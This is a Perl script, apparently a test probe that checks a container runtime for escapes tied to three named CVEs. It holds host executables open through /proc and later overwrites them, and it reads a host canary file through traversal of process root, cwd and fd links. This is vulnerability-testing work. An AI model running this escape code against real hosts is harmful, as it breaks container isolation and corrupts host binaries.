# Watches what enters the container until /data/stop is there, and takes from it what it can: 2019-5736, 2016-9962,
# 2024-21626. It holds the programs of processes open, and writes to them when they have ended.
use constant O_PATH => 010000000;
my ($canary, $up) = (substr($ENV{CANARY}, 1), '../' x 40);
my $data = $ENV{DATA} // '/data';
my $only = $ENV{VICTIM};
my (%seen, %program, %outside, %descriptor);
open my $ready, '>', "$data/ready" or die $!;
until (-e "$data/stop") {
  opendir my $proc, '/proc' or die $!;
  for my $pid (grep { /^\d+$/ && $_ != $$ } readdir $proc) {
    $seen{$pid} = 1;
    my $exe = readlink "/proc/$pid/exe";
    if (defined $exe && !$program{$exe} && (!defined $only || $exe eq $only)) {
      if (sysopen my $file, "/proc/$pid/exe", O_RDONLY) {
        $program{$exe} = $file;
        if ($exe !~ m{^/usr/}) { open my $held, '>', "$data/held" or die $! }
      }
    }
    for my $place ('root', 'cwd', map { "fd/$_" } 0 .. 12) {
      $outside{$place} = 1 if sysopen my $file, "/proc/$pid/$place/$up$canary", O_RDONLY;
      next if $place !~ /^fd/;
      # Held, so that name and file are those of one moment: a loader opens one library after the other under one number.
      sysopen my $held, "/proc/$pid/$place", O_PATH or next;
      my $link = readlink('/proc/self/fd/' . fileno $held) // next;
      # One of a file that the container has is no way out.
      my ($here, $there) = map { join ':', (stat $_)[0, 1] } $link, $held;
      $descriptor{$link =~ s/\d+/N/gr} = 1 if $here ne $there;
    }
  }
}
my @overwritten;
for my $exe (sort keys %program) {
  for (1 .. 100) {
    if (sysopen my $file, '/proc/self/fd/' . fileno $program{$exe}, O_WRONLY) {
      push @overwritten, $exe if syswrite $file, 'X';
      last;
    }
    last if !$!{ETXTBSY};
    select undef, undef, undef, 0.01;
  }
}
print 'saw processes', "\t", scalar keys %seen, "\n";
print 'held programs', "\t", join(' ', sort keys %program), "\n";
print 'overwrote', "\t", join(' ', @overwritten), "\n";
print "read the host's file by", "\t", join(' ', sort keys %outside), "\n";
print 'descriptors', "\t", join(' ', sort keys %descriptor), "\n";
